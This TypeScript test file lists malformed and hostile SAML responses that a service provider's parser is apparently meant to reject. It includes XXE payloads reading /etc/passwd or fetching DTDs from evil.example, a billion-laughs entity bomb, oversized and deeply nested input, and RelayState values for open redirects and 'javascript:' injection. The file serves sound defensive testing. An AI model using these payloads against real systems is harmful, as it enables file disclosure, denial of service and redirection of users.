import { inAssertion, inResponse, set, withText, type Forgery } from './forgery.ts'
import { saml } from './saml-provider.ts'
import { find, xml } from './xml-tree.ts'

const doctype = (name: string, content: string): Forgery => withText(name, 'saml-xml', (text) => `${content}${text}`)
const encoded = (name: string, change: (base64: string) => string): Forgery => ({
  name,
  code: 'saml-xml',
  lie: () => ({ encoded: change }),
})
const form = (name: string, change: (form: URLSearchParams) => void): Forgery => ({
  name,
  code: 'answer-invalid',
  lie: () => ({}),
  form: change,
})
const relay = (name: string, value: string) => form(name, (fields) => fields.set('RelayState', value))
const nested = (depth: number) => '<saml:X>'.repeat(depth) + '</saml:X>'.repeat(depth)
const inStatus = (content: string) => (text: string) => text.replace('<samlp:Status>', `<samlp:Status>${content}`)

const laughs =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index || ''};`.repeat(10)}">`).join('') +
  ']>'

export const parserForgeries: readonly Forgery[] = [
  doctype('111 a document type', '<!DOCTYPE Response>'),
  doctype('112 an entity', '<!DOCTYPE r [<!ENTITY x "the-owner">]>'),
  doctype('113 an entity of a file', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  doctype('113 an entity of an address', '<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'),
  doctype('113 a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>'),
  doctype('114 a billion laughs', laughs),
  doctype('115 XML 1.1', '<?xml version="1.1"?>'),
  doctype('116 UTF-16 that is declared', '<?xml version="1.0" encoding="UTF-16"?>'),
  withText('116 UTF-16', 'saml-xml', (text) => Buffer.from(`\ufeff${text}`, 'utf16le')),
  withText('117 a mark of the byte order', 'saml-xml', (text) => `\ufeff${text}`),
  withText('118 a second root', 'saml-xml', (text) => `${text}<x/>`),
  withText('118 trailing garbage', 'saml-xml', (text) => `${text}x`),
  withText('118 a comment after the root', 'saml-xml', (text) => `${text}<!-- -->`),
  withText('118 an instruction before the root', 'saml-xml', (text) => `<?x y?>${text}`),
  withText('119 an attribute twice', 'saml-xml', (text) => text.replace(' Version=', ' Version="1.1" Version=')),
  withText('119 an attribute twice by two prefixes', 'saml-xml', (text) =>
    text.replace('<samlp:Status>', '<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2">'),
  ),
  inAssertion('120 an assertion in a foreign namespace', 'saml-shape', (assertion) => {
    assertion.tag = 'foreign:Assertion'
    set(assertion, 'xmlns:foreign', 'urn:evil')
  }),
  inResponse('121 a response in a foreign namespace', 'saml-shape', (root) => set(root, 'xmlns:samlp', 'urn:evil')),
  inResponse('121 a response of SAML 1.1', 'saml-shape', (root) =>
    set(root, 'xmlns:samlp', 'urn:oasis:names:tc:SAML:1.0:protocol'),
  ),
  encoded('122 base64 with foreign characters', (base64) => `${base64.slice(0, 8)}*!${base64.slice(8)}`),
  encoded('122 base64 without its end', (base64) => `${base64}AA`),
  encoded('123 base64 for addresses', (base64) => `${base64.slice(0, -4)}_-_-`),
  withText('124 depth 5,000', 'saml-xml', inStatus(nested(5_000))),
  withText('124 depth 50', 'saml-xml', inStatus(nested(50))),
  withText('125 more than 256 KiB', 'saml-xml', inStatus(`<saml:X>${'x'.repeat(262_144)}</saml:X>`)),
  withText('125 more than 4,000 elements', 'saml-xml', inStatus('<saml:X/>'.repeat(4_001))),
  withText('125 more than 64 attributes', 'saml-xml', (text) =>
    text.replace('<samlp:Status>', `<samlp:Status ${Array.from({ length: 65 }, (_, n) => `a${n}="1"`).join(' ')}>`),
  ),
  withText('126 a zero', 'saml-xml', (text) => text.replace('<samlp:Status>', '<samlp:Status>\0')),
  withText('126 a reference to a zero', 'saml-xml', (text) => text.replace('<samlp:Status>', '<samlp:Status>&#0;')),
  withText('126 bytes that are too long for a character', 'saml-xml', (text) => damage(text, [0xc0, 0xaf])),
  withText('126 half a surrogate pair', 'saml-xml', (text) => damage(text, [0xed, 0xa0, 0x80])),
  withText('126 a prefix without a namespace', 'saml-xml', (text) =>
    text.replace('<samlp:Status>', '<samlp:Status><x:y/>'),
  ),
  withText('126 a name that begins with xmlns', 'saml-xml', (text) =>
    text.replace('<samlp:Status>', '<samlp:Status xmlnsx="1">'),
  ),
  withText('126 an entity that is none', 'saml-xml', (text) =>
    text.replace('<samlp:Status>', '<samlp:Status>&toString;'),
  ),
  withText('126 an ampersand alone', 'saml-xml', (text) => text.replace('<samlp:Status>', '<samlp:Status>&')),
  withText('126 nothing', 'saml-xml', () => ' '),
  inResponse('127 an unknown element in the response', 'saml-shape', (root) => void root.children.push(xml('samlp:X'))),
  inAssertion('127 an unknown element in the assertion', 'saml-shape', (assertion) => {
    assertion.children.push(xml('saml:Advice'))
  }),
  inAssertion('127 a text in the assertion', 'saml-shape', (assertion) => void assertion.children.push('x')),
  inAssertion('127 an unknown attribute of the assertion', 'saml-shape', (assertion) =>
    set(assertion, 'Role', 'owner'),
  ),
  inAssertion('127 an attribute of another namespace', 'saml-shape', (assertion) => {
    Object.assign(assertion.attributes, { 'xmlns:x': 'urn:x', 'x:ID': '_x' })
  }),
  inAssertion('127 no id of the assertion', 'saml-shape', (assertion) => set(assertion, 'ID', null)),
  inAssertion('127 an id that is none', 'saml-shape', (assertion) => set(assertion, 'ID', '1 x')),
  inResponse('127 an assertion in the extensions', 'saml-shape', (root) => {
    root.children.splice(1, 0, xml('samlp:Extensions', {}, xml('saml:Assertion', { 'xmlns:saml': saml })))
  }),
  inResponse('127 a detail of the status', 'saml-shape', (root) => {
    find(root, 'Status').children.push(xml('samlp:StatusDetail'))
  }),
  inEncrypted('127 an element beside what is encrypted', /(?=<\/saml:EncryptedAssertion>)/, '<saml:X/>'),
  inEncrypted('127 an element in what is encrypted', /(?=<\/xenc:EncryptedData>)/, '<xenc:X/>'),
  inEncrypted(
    '127 an element in the method of a key',
    /(?<=<xenc:EncryptionMethod Algorithm="[^"]*rsa-oaep[^"]*")(?:\/>|><\/xenc:EncryptionMethod>)/,
    '><xenc:X/></xenc:EncryptionMethod>',
  ),
  form('128 the answer twice', (fields) => fields.append('SAMLResponse', fields.get('SAMLResponse') ?? '')),
  form('128 a request beside the answer', (fields) => fields.set('SAMLRequest', 'x')),
  form('128 no answer', (fields) => fields.delete('SAMLResponse')),
  form('128 two states', (fields) => {
    fields.append('RelayState', '/a')
    fields.append('RelayState', '/b')
  }),
  form('128 a form of a megabyte', (fields) => fields.set('x', 'x'.repeat(1_000_000))),
  relay('129 a state that is an address', 'https://evil.example/'),
  relay('129 a state without a scheme', '//evil.example'),
  relay('129 a state with a slash the other way', '/\\evil.example'),
  relay('129 a state that is a script', 'javascript:alert(1)'),
  relay('129 a state of 81 bytes', `/${'x'.repeat(80)}`),
]

/** What is encrypted is signed inside alone, so that everything around it is anybody's to write. */
function inEncrypted(name: string, place: RegExp, written: string): Forgery {
  const text = (whole: string) => {
    if (!place.test(whole)) throw new Error(`It has no such place: ${whole}`)
    return whole.replace(place, written)
  }
  return { name, code: 'saml-shape', shapes: ['assertion'], lie: () => ({ encrypting: {}, text }) }
}

function damage(text: string, bytes: readonly number[]): Buffer {
  const mark = '<samlp:Status>'
  const at = Buffer.from(text).indexOf(mark) + mark.length
  return Buffer.concat([Buffer.from(text).subarray(0, at), Buffer.from(bytes), Buffer.from(text).subarray(at)])
}
